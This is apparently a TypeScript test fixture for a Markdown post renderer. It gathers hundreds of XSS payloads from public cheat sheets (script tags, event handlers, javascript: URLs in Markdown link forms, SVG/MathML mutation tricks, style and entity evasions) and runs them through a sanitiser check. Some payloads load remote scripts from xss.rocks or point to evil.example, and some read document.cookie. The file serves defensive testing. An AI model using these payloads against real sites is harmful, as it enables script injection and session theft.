// XSS payloads for the post pipeline (issue 10): strings a member could type as a post. They are
// assembled from public lists, each group naming its source, and from the Markdown forms a
// payload can hide in (CommonMark 0.31 and GitHub Flavored Markdown specs: inline links, titles,
// angle-bracket destinations, reference definitions, autolinks, bare GFM autolinks, images).
//
// Sources:
// - OWASP: XSS Filter Evasion Cheat Sheet (OWASP Cheat Sheet Series, based on RSnake's list)
// - PortSwigger: Cross-site scripting cheat sheet (PortSwigger/xss-cheatsheet-data, json/*.json)
// - H5SC: HTML5 Security Cheatsheet, html5sec.org (cure53/H5SC, items.js; %…% templates filled)
// - payloadbox: payloadbox/xss-payload-list (Intruder/xss-payload-list.txt)
// - mXSS: SonarSource mXSS cheatsheet, and the published DOMPurify mutation bypasses
//
// Every payload goes through renderPost and its HTML through tests/support/xss-check.ts
// (tests/unit/xss.test.ts). Control characters are written as escapes.

export interface PayloadGroup {
	name: string;
	source: string;
	payloads: string[];
}

// ---------------------------------------------------------------------------------------------
// Script tags: case, attributes, nesting, broken and unterminated tags.
// OWASP (Basic, Non-alpha-non-digit, Extraneous open brackets, No closing script tags, Protocol
// resolution, Half open, End title tag, HTML quote encapsulation), PortSwigger (classic,
// encodings, restricted characters), payloadbox.
const scriptTags: PayloadGroup = {
	name: 'script tags',
	source: 'OWASP, PortSwigger, payloadbox',
	payloads: [
		'<script>alert(1)</script>',
		'<SCRIPT>alert(1)</SCRIPT>',
		'<ScRiPt>alert(1)</sCrIpT>',
		'<script >alert(1)</script >',
		'<script\n>alert(1)</script\n>',
		'<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
		'<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
		'<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
		'<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
		'<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
		'<SCRIPT SRC=//xss.rocks/.j>',
		'<script src=data:text/javascript;base64,YWxlcnQoMSk=></script>',
		'<script src="data:text/javascript,alert(1)"></script>',
		'</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
		"</script><script>alert('XSS');</script>",
		'"></SCRIPT>”>’><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
		'<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
		'<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
		'<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
		'<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
		'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
		'<script x> alert(1) </script 1=2',
		'<script>alert(1)',
		'<script>alert(1)</script',
		'<scr<script>ipt>alert(1)</scr</script>ipt>',
		'<b <script>alert(1)//</script>0</script></b>',
		'<b><script<b></b><alert(1)</script </b></b>',
		'<script<{alert(1)}/></script </>',
		'<script>\\u0061lert(1)</script>',
		"<script>eval('\\x61lert(1)')</script>",
		'<script>alert`1`</script>',
		'<script>onerror=alert;throw 1</script>',
		'<SCRIPT FOR=document EVENT=onreadystatechange>alert(1)</SCRIPT>',
		'¼script¾alert(¢XSS¢)¼/script¾',
		"+ADw-script+AD4-alert('XSS');+ADw-/script+AD4-",
		'%3Cscript%3Ealert(1)%3C/script%3E',
		'\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
		'\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
		'<script\u0000>alert(1)</script>',
		'<\u0000script>alert(1)</script>'
	]
};

// ---------------------------------------------------------------------------------------------
// Event handlers: the event names of PortSwigger's list (json/events.json) and OWASP's
// "Attacks Using Event Handlers", each on several tags (the tags of payloadbox's list, and the
// tags the allow-list keeps, whose attributes must still go), plus literal vectors.
const EVENTS = [
	'onabort',
	'onactivate',
	'onafterprint',
	'onanimationcancel',
	'onanimationend',
	'onanimationiteration',
	'onanimationstart',
	'onauxclick',
	'onbeforeactivate',
	'onbeforecopy',
	'onbeforecut',
	'onbeforedeactivate',
	'onbeforeinput',
	'onbeforeprint',
	'onbeforetoggle',
	'onbeforeunload',
	'onbegin',
	'onblur',
	'oncancel',
	'oncanplay',
	'oncanplaythrough',
	'onchange',
	'onclick',
	'onclose',
	'oncontentvisibilityautostatechange',
	'oncontextmenu',
	'oncopy',
	'oncuechange',
	'oncut',
	'ondblclick',
	'ondeactivate',
	'ondrag',
	'ondragend',
	'ondragenter',
	'ondragleave',
	'ondragover',
	'ondragstart',
	'ondrop',
	'ondurationchange',
	'onend',
	'onended',
	'onerror',
	'onfilterchange',
	'onfinish',
	'onfocus',
	'onfocusin',
	'onfocusout',
	'onformdata',
	'onfullscreenchange',
	'onhashchange',
	'oninput',
	'oninvalid',
	'onkeydown',
	'onkeypress',
	'onkeyup',
	'onload',
	'onloadeddata',
	'onloadedmetadata',
	'onloadstart',
	'onmessage',
	'onmousedown',
	'onmouseenter',
	'onmouseleave',
	'onmousemove',
	'onmouseout',
	'onmouseover',
	'onmouseup',
	'onmousewheel',
	'onpagehide',
	'onpageshow',
	'onpaste',
	'onpause',
	'onplay',
	'onplaying',
	'onpointerdown',
	'onpointerenter',
	'onpointerleave',
	'onpointermove',
	'onpointerout',
	'onpointerover',
	'onpointerup',
	'onpopstate',
	'onprogress',
	'onpropertychange',
	'onratechange',
	'onreadystatechange',
	'onrepeat',
	'onreset',
	'onresize',
	'onscroll',
	'onscrollend',
	'onsearch',
	'onseeked',
	'onseeking',
	'onselect',
	'onselectionchange',
	'onselectstart',
	'onstart',
	'onsubmit',
	'onsuspend',
	'ontimeupdate',
	'ontoggle',
	'ontouchend',
	'ontouchmove',
	'ontouchstart',
	'ontransitionend',
	'ontransitionrun',
	'onunload',
	'onvolumechange',
	'onwaiting',
	'onwheel'
];
const EVENT_TAGS = [
	'img src=x',
	'svg',
	'body',
	'iframe',
	'input autofocus',
	'video src=x',
	'audio src=x',
	'details open',
	'marquee',
	'div',
	'a href="https://ok.example"',
	'p',
	'strong',
	'em',
	'code',
	'pre',
	'li',
	'blockquote',
	'h2',
	'br',
	'hr',
	'del',
	'form',
	'button',
	'select',
	'textarea',
	'object',
	'embed',
	'style',
	'x',
	'math',
	'frameset',
	'table',
	'td',
	'picture'
];
const eventHandlers: PayloadGroup = {
	name: 'event handlers on many tags',
	source: 'PortSwigger json/events.json, OWASP event handler list, payloadbox tags',
	payloads: [
		...EVENTS.map((event, i) => {
			const tag = EVENT_TAGS[i % EVENT_TAGS.length];
			return `<${tag} ${event}=alert(1)>x</${tag.split(' ')[0]}>`;
		}),
		...EVENT_TAGS.map((tag) => `<${tag} onclick="alert(1)">test</${tag.split(' ')[0]}>`),
		'<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
		'<IMG SRC=# onmouseover="alert(\'xxs\')">',
		'<IMG SRC= onmouseover="alert(\'xxs\')">',
		'<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
		'<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
		'<img src=x:alert(alt) onerror=eval(src) alt=0>',
		'<img/src="x"/onerror=alert(1)>',
		'<img src=x onerror=alert(1)//',
		'<img[a][b]src=x[d]onerror[c]=[e]"alert(1)">',
		'<img src onerror /" \'"= alt=alert(1)//">',
		'<img src="/" =_=" title="onerror=\'prompt(1)\'">',
		'<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">',
		'<Video> <source onerror = "javascript: alert (XSS)">',
		'<svg/onload=alert(1)>',
		'<svg onload=alert(1) ',
		'<svg onload=alert(1)<!--',
		'<body onpageshow=alert(1)>',
		'<details open ontoggle="alert(1)">',
		'<input onfocus=write(1) autofocus>',
		'<input onblur=write(1) autofocus><input autofocus>',
		'<x contenteditable onpaste=alert(1)>paste here!',
		'<a onmouseover="alert(document.cookie)">xxs link</a>',
		'<a onmouseover=alert(document.cookie)>xxs link</a>',
		'<div contenteditable onfocus="alert(1)" autofocus></div>',
		'<video src onratechange="alert(1)">',
		'<picture><source srcset="x"><img onerror="alert(1)"></picture>',
		'<isindex type=image src=1 onerror=alert(XSS)>',
		'<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;"',
		'<p style="x" onclick=alert(1) class=a>段落</p>',
		'<a href="https://ok.example" onclick="alert(1)">普通のリンク</a>'
	]
};

// ---------------------------------------------------------------------------------------------
// Dangerous URLs: the scheme spellings of OWASP (decimal/hex references with and without
// semicolons and with leading zeros, embedded tab/newline/CR, spaces and meta characters before
// the scheme, null in the scheme), PortSwigger (json/protocols.json, json/encodings.json:
// &colon; &Tab; &NewLine;, characters \x01-\x20 before and \x09 \x0a \x0d inside the scheme) and
// H5SC #101 (characters ignored in the URI scheme), each in every Markdown link form.
const DANGEROUS_URLS = [
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	'JAVASCRIPT:alert(document.domain)',
	'javascript:alert(1)//',
	'javascript://%0aalert(1)',
	'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>',
	'javascript&colon;alert(1)',
	'javascript&#58;alert(1)',
	'javascript&#058;alert(1)',
	'javascript&#0000058alert(1)',
	'javascript&#x3a;alert(1)',
	'javascript&#X3A;alert(1)',
	'&#106;avascript:alert(1)',
	'&#106avascript:alert(1)',
	'&#0000106avascript:alert(1)',
	'&#x6A;avascript:alert(1)',
	'&#x6aavascript:alert(1)',
	'&#x0000006a;avascript:alert(1)',
	'j&#x61vascript:alert(1)',
	'&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;',
	'&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29',
	'java&Tab;script:alert(1)',
	'java&NewLine;script:alert(1)',
	'javascript&colon;alert&lpar;1&rpar;',
	'jav&#x09;ascript:alert(1)',
	'jav&#x0A;ascript:alert(1)',
	'jav&#x0D;ascript:alert(1)',
	'jav\tascript:alert(1)',
	'javascript\n:alert(1)',
	'java\u0000script:alert(1)',
	'\u0001javascript:alert(1)',
	'\u000bjavascript:alert(1)',
	'\u00a0javascript:alert(1)',
	'\ufeffjavascript:alert(1)',
	'&#14;javascript:alert(1)',
	'&#32;javascript:alert(1)',
	'%6A%61%76%61%73%63%72%69%70%74:alert(1)',
	'javascript%3Aalert(1)',
	'javascript\\:alert(1)',
	'\\javascript:alert(1)',
	'java\\script:alert(1)',
	'javascript:\\u0061lert(1)',
	'vbscript:msgbox(1)',
	'VBScript:MsgBox("XSS")',
	'vbscript&colon;msgbox(1)',
	'livescript:[code]',
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E',
	'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'data&colon;text/html,%3Cscript%3Ealert(1)%3C/script%3E',
	'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
	'feed:javascript:alert(1)',
	'https:javascript:alert(1)',
	'tel:javascript:alert(1)',
	'mailto:javascript:alert(1)',
	'https://javascript:alert(1)@ok.example/',
	'https://ok.example/?next=javascript:alert(1)',
	'http://ok.example/&#x22;&#x3e;&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
	'//evil.example/x.js',
	'\\\\evil.example\\x',
	'/\\evil.example',
	'https://ok.example/"onmouseover="alert(1)',
	"https://ok.example/'onmouseover='alert(1)'"
];
/** The Markdown forms a link destination can take (CommonMark 6.3 links, 6.5 autolinks, GFM 6.9). */
const LINK_FORMS: ((url: string) => string)[] = [
	(url) => `[リンク](${url})`,
	(url) => `[リンク](${url} "タイトル")`,
	(url) => `[リンク](<${url}>)`,
	(url) => `[リンク](<${url}> 'タイトル')`,
	(url) => `[リンク][ref]\n\n[ref]: ${url}`,
	(url) => `[ref]\n\n[ref]: <${url}> "タイトル"`,
	(url) => `<${url}>`,
	(url) => `詳しくは ${url} を見てください`,
	(url) => `![画像](${url})`
];
const dangerousUrls: PayloadGroup = {
	name: 'javascript:, data: and vbscript: URLs in every Markdown link form',
	source: 'OWASP, PortSwigger protocols/encodings, H5SC #101; forms from CommonMark and GFM',
	payloads: DANGEROUS_URLS.flatMap((url) => LINK_FORMS.map((form) => form(url)))
};

// ---------------------------------------------------------------------------------------------
// Markdown-specific tricks: link text with HTML, titles that break out of the attribute, HTML in
// code that closes the code, nested brackets, images with onerror, reference definitions,
// autolinks with quotes, emphasis around tags, HTML blocks of each CommonMark start condition.
// Built on the vectors above and the CommonMark spec's own examples.
const markdownTricks: PayloadGroup = {
	name: 'Markdown-specific',
	source: 'CommonMark 0.31 / GFM spec examples combined with OWASP and PortSwigger vectors',
	payloads: [
		'[<img src=x onerror=alert(1)>](https://ok.example)',
		'[<script>alert(1)</script>](https://ok.example)',
		'[<a href="javascript:alert(1)">x</a>](https://ok.example)',
		'[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
		'[x](https://ok.example "a" onclick="alert(1)")',
		"[x](https://ok.example 'a\\' onmouseover=alert(1) x=\\'')",
		'[x](https://ok.example (" onmouseover="alert(1)))',
		'[x](https://ok.example/" onmouseover="alert(1))',
		'[x](https://ok.example/<script>alert(1)</script>)',
		'[x](<https://ok.example/"><script>alert(1)</script>>)',
		'[x]( javascript:alert(1) )',
		'[x](\njavascript:alert(1)\n)',
		'[x](javascript:alert(1) "https://ok.example")',
		'[[x](javascript:alert(1))](https://ok.example)',
		'[x [y](javascript:alert(1))](https://ok.example)',
		'[x](https://ok.example)(javascript:alert(1))',
		'[x]\n\n[x]: javascript:alert(1)\n[x]: https://ok.example',
		'[x]: https://ok.example "<script>alert(1)</script>"\n\n[x]',
		'[x][y]\n\n[y]:\njavascript:alert(1)',
		'[x](#"onmouseover="alert(1))',
		'[x](?"onmouseover="alert(1))',
		'[x](https://ok.example\\"onmouseover=\\"alert(1))',
		'[x](https://ok.example&quot;onmouseover=&quot;alert(1))',
		'[x](https://ok.example&#34;&#32;onmouseover&#61;&#34;alert(1))',
		'<https://ok.example/"onmouseover="alert(1)>',
		'<mailto:a@ok.example"onmouseover="alert(1)>',
		'<a@ok.example"onmouseover="alert(1)>',
		'a@ok.example<img src=x onerror=alert(1)>',
		'www.ok.example/<img src=x onerror=alert(1)>',
		'https://ok.example/?q=<script>alert(1)</script>',
		'![x](x onerror=alert(1))',
		'![x" onerror="alert(1)](https://ok.example/x.png)',
		'![x](https://ok.example/x.png"onerror="alert(1))',
		'![x](https://ok.example/x.png "\\" onerror=\\"alert(1)")',
		'![<img src=x onerror=alert(1)>](https://ok.example/x.png)',
		'[![x](javascript:alert(1))](javascript:alert(2))',
		'![x][i]\n\n[i]: https://ok.example/x.png"onerror="alert(1)',
		'`</code><script>alert(1)</script>`',
		'`<img src=x onerror=alert(1)>`',
		'``</code></pre><img src=x onerror=alert(1)>``',
		'```\n</code></pre><script>alert(1)</script>\n```',
		'```"><script>alert(1)</script>\nx\n```',
		'```js onload=alert(1)\nx\n```',
		'~~~<img src=x onerror=alert(1)>\nx\n~~~',
		'    </code></pre><script>alert(1)</script>',
		'*<img src=x onerror=alert(1)>*',
		'**<svg onload=alert(1)>**',
		'_<script>_alert(1)_</script>_',
		'~~<iframe src=javascript:alert(1)>~~',
		'*<img src="*x" onerror=alert(1)>*',
		'<script>\nalert(1)\n</script>',
		'<pre onclick="alert(1)">\n**x**\n</pre>',
		'<style>\n*{background:url(javascript:alert(1))}\n</style>',
		'<textarea>\n</textarea><img src=x onerror=alert(1)>\n</textarea>',
		'<!-- x -->\n<img src=x onerror=alert(1)>',
		'<?php echo "<script>alert(1)</script>"; ?>',
		'<!DOCTYPE html><script>alert(1)</script>',
		'<![CDATA[\n<script>alert(1)</script>\n]]>',
		'<div onclick="alert(1)">\n\n*x*\n\n</div>',
		'<x-widget onload="alert(1)">\n\nx\n\n</x-widget>',
		'<img src=x\nonerror=alert(1)>',
		'\\<img src=x onerror=alert(1)>',
		'&lt;img src=x onerror=alert(1)&gt;',
		'- [ ] <img src=x onerror=alert(1)>\n- [x] done',
		'1. <script>alert(1)</script>\n2. [x](javascript:alert(1))',
		'x\n===\n<img src=x onerror=alert(1)>',
		'<details><summary>x</summary><img src=x onerror=alert(1)></details>',
		'[^1]\n\n[^1]: <script>alert(1)</script>',
		'$<img src=x onerror=alert(1)>$',
		'<http://a<script>alert(1)</script>>',
		'<javascript:alert(1)>x</javascript:alert(1)>'
	]
};

// ---------------------------------------------------------------------------------------------
// SVG and MathML, including mutation XSS (namespace confusion that changes on re-parsing).
// PortSwigger (protocols, events), H5SC (#11, #47, #65, #87, #89, #128, #130, #141), OWASP
// (SVG object tag), mXSS: SonarSource cheatsheet and the DOMPurify 2.0.0/2.0.17 bypasses.
const svgMathml: PayloadGroup = {
	name: 'SVG, MathML and mutation XSS',
	source: 'PortSwigger, H5SC, OWASP, SonarSource mXSS cheatsheet',
	payloads: [
		'<svg onload=alert(1)>',
		'<svg><script>alert(1)</script></svg>',
		'<svg><script>&#97;lert(1)</script></svg>',
		'<svg><script>alert&NewLine;(1)</script></svg>',
		'<svg><script href="data:text/javascript,alert(1)" />',
		"<svg><script xlink:href=data&colon;,window.open('https://www.google.com/')></script",
		'<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(1)"></g></svg>',
		'<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>',
		'<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a>',
		'<svg><set xlink:href=#x attributeName=href to=javascript:alert(1) /><a id=x><text x=20 y=20>XSS</text></a>',
		'<svg xmlns="http://www.w3.org/2000/svg">\n<set attributeName="onmouseover" to="alert(1)"/>\n</svg>',
		'<svg><path><animateMotion onbegin=alert(1) dur="1s" repeatCount="1">',
		'<svg><style>&lt;img/src=x onerror=alert(1)// </b>',
		'<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>',
		'<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>',
		'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
		'<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
		'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
		'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
		'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
		'<form id="outer"><math><mtext></form><form id="inner"><mglyph><svg><mtext><form id="outer"><mi></form><form id="inner"><mglyph><desc><xmp><img src=x onerror=alert(1)>',
		'<math href="javascript:alert(1)">CLICKME</math>',
		'<math><x href="javascript:alert(1)">blah',
		'<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
		'<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
		'<svg><script>\nalert&grave;1&grave;\n<p>',
		'<svg><title><a id="</title><img src=x onerror=alert(1)>">'
	]
};

// ---------------------------------------------------------------------------------------------
// Elements that load or navigate: iframe srcdoc, object, embed, base, meta refresh, form action
// and formaction, link. OWASP (META, IFRAME, FRAME, BASE, OBJECT, EMBED), PortSwigger
// (useful_tags, protocols, dangling_markup), H5SC (#1, #50, #51, #72, #139, #144).
const loaders: PayloadGroup = {
	name: 'iframe, object, embed, base, meta, form',
	source: 'OWASP, PortSwigger useful_tags/protocols/dangling_markup, H5SC',
	payloads: [
		'<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>',
		'<iframe srcdoc="&lt;img src=1 onerror=alert(1)&gt;"></iframe>',
		'<iframe srcdoc=&lt;script&gt;alert&lpar;1&rpar;&lt;&sol;script&gt;></iframe>',
		'<iframe srcdoc="<svg onload=alert(1)&nvgt;"></iframe>',
		'<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
		'<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>',
		'<iframe/src="data:text/html,<svg onload=alert(1)>">',
		'<iframe src=http://xss.rocks/scriptlet.html <',
		'<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
		'<object data="javascript:alert(XSS)">',
		'<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
		'<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
		'<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>',
		'<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>',
		'<embed src="javascript:alert(1)"></embed>',
		'<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
		'<BASE HREF="javascript:alert(\'XSS\');//">',
		'<base href="//evil.example/">',
		'<head><base href="javascript://"/></head><body><a href="/. /,alert(1)//#">XXX</a></body>',
		'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
		'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
		'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
		'<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>',
		'<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
		'<meta charset="UTF-7" /> +ADw-script+AD4-alert(1)+ADw-/script+AD4-',
		'<form action=javascript:alert(1)><input type=submit>',
		'<form><button formaction=javascript:alert(1)>XSS',
		'<form><button formaction=javascript&colon;alert(1)>CLICKME',
		'<form><input type=submit formaction=javascript:alert(1) value=XSS>',
		'<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
		'<form><button formaction=//evil>XSS</button><textarea name=x>',
		'<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
		'<link rel=import href="data:text/html,<script>alert(1)</script>">',
		'<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
		'<BODY BACKGROUND="javascript:alert(\'XSS\')">',
		'<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
		'<BGSOUND SRC="javascript:alert(\'XSS\');">',
		'<video poster=javascript:alert(1)//></video>',
		'<applet code="javascript:confirm(document.cookie);">',
		'<a href="javascript:&apos;<svg onload&equals;alert&lpar;1&rpar;&nvgt;&apos;">CLICK</a>',
		'<a aa aaa aaaa href=j&#97v&#97script:&#97lert(1)>ClickMe',
		'<a href="[a]java[b]script[c]:alert(1)">XXX</a>',
		'<form><a href="javascript:\\u0061lert(1)">X'
	]
};

// ---------------------------------------------------------------------------------------------
// Style: <style>, @import, expression(), behaviour, url(javascript:). OWASP (STYLE tags,
// remote style sheets, expression, list-style-image, DIV background), H5SC (#29, #30, #80).
const styles: PayloadGroup = {
	name: 'style, @import, expression()',
	source: 'OWASP, H5SC',
	payloads: [
		"<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
		'<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
		'<style>@import "data:,*%7bx:expression(write(1))%7D";</style>',
		'<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
		'<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
		'<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
		'<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
		'<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
		'exp/*<A STYLE=\'no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
		'<XSS STYLE="xss:expression(alert(\'XSS\'))">',
		'<XSS STYLE="behavior: url(xss.htc);">',
		'<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
		'<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
		'<DIV STYLE="width: expression(alert(\'XSS\'));">',
		'<style>//*{x:expression(alert(/xss/))}//<style></style>',
		'<style>*{x:ｅｘｐｒｅｓｓｉｏｎ(write(1))}</style>',
		'<link rel=stylesheet href=data:,*%7bx:expression(write(1))%7d',
		'<style><img src="</style><img src=x onerror=alert(1)//">',
		'<p style="background:url(javascript:alert(1))">x</p>',
		'<a style="behavior:url(#default#AnchorClick);" folder="javascript:alert(1)">XXX</a>'
	]
};

// ---------------------------------------------------------------------------------------------
// Entity tricks: every spelling of "<" from OWASP's "Character Escape Sequences", named references
// without semicolons, double encoding, HTML5 named references (H5SC #144, html_alert_encoded).
const LESS_THAN = ['&lt', '&LT;', '&#60', '&#0000060', '&#60;', '&#x3c', '&#x00003c;', '&#X3C;'];
const entities: PayloadGroup = {
	name: 'entity tricks',
	source: 'OWASP Character Escape Sequences, H5SC #144 and payload templates',
	payloads: [
		...LESS_THAN.map((lt) => `${lt}script>alert(1)${lt}/script>`),
		...LESS_THAN.map((lt) => `${lt}img src=x onerror=alert(1)>`),
		'&lt;script&gt;alert(1)&lt;/script&gt;',
		'&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
		'&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;',
		'&#x26;#x3c;script&#x26;#x3e;alert(1)',
		'<img src=x onerror=&#x61;l&#x65;rt&#40;1)>',
		'<a href="&#x6a;avascript:alert(1)">x</a>',
		'`&lt;script&gt;alert(1)&lt;/script&gt;`',
		'[&lt;script&gt;alert(1)&lt;/script&gt;](https://ok.example)',
		'&#0;script&#0;',
		'&#x110000;&#xD800;<script>alert(1)</script>',
		'<img src="x` `<script>alert(1)</script>"` `>'
	]
};

// ---------------------------------------------------------------------------------------------
// Comments, CDATA, declarations and processing instructions. H5SC (#37, #38, #39, #62, #91,
// #115, #133, #134), OWASP (Downlevel-Hidden block, SSI, PHP, XML data island).
const comments: PayloadGroup = {
	name: 'comments, CDATA and declarations',
	source: 'H5SC, OWASP',
	payloads: [
		'<!--<img src="--><img src=x onerror=alert(1)//">',
		'<comment><img src="</comment><img src=x onerror=alert(1)//">',
		'<![><img src="]><img src=x onerror=alert(1)//">',
		'<!-- `<img/src=xx:xx onerror=alert(1)//--!>',
		"<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
		'<!--[if]><script>alert(1)</script -->',
		'<!--[if<img src=x onerror=alert(2)//]> -->',
		'<!-- --!><script>alert(1)</script>',
		'<!--><img src=x onerror=alert(1)>-->',
		'<!---><img src=x onerror=alert(1)>-->',
		'<! foo="><script>alert(1)</script>">',
		'<? foo="><script>alert(1)</script>">',
		'</ foo="><script>alert(1)</script>">',
		"<x '=\"foo\"><x foo='><img src=x onerror=alert(1)//'>",
		'<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=http://xss.rocks/xss.js></SCRIPT>\'"-->',
		"<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
		'<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
		'<!DOCTYPE x[<!ENTITY x SYSTEM "https://evil.example/x">]><y>&x;</y>',
		'<?xml-stylesheet href="javascript:alert(1)"?><root/>',
		'<![CDATA[<script>alert(1)</script>]]>'
	]
};

// ---------------------------------------------------------------------------------------------
// Parser differentials: raw-text and template elements whose content a sanitiser and a browser
// may read differently. PortSwigger json/consuming_tags.json, SonarSource mXSS cheatsheet
// (noscript with and without scripting, noframes, select, plaintext), H5SC #40 and #134.
const CONSUMING = [
	'noembed',
	'noscript',
	'style',
	'script',
	'iframe',
	'xmp',
	'textarea',
	'noframes',
	'title'
];
const differentials: PayloadGroup = {
	name: 'template, noscript and raw-text parser differentials',
	source: 'PortSwigger consuming_tags, SonarSource mXSS cheatsheet, H5SC',
	payloads: [
		...CONSUMING.map((tag) => `<${tag}><img title="</${tag}><img src onerror=alert(1)>"></${tag}>`),
		'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
		'<template><script>alert(1)</script></template>',
		'<template><img src=x onerror=alert(1)></template>',
		'x<template shadowrootmode=open><slot onslotchange=alert(1)>',
		'<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>',
		'<select><style></select><img src=x onerror=alert(1)></style>',
		'<select><template><img src=x onerror=alert(1)></template></select>',
		'<table><plaintext><img src=x onerror=alert(1)>',
		'<plaintext><img src=x onerror=alert(1)>',
		"<xmp>\n<%\n</xmp>\n<img alt='%></xmp><img src=xx:x onerror=alert(1)//'>",
		'<a><table><a href="javascript:alert(1)">x',
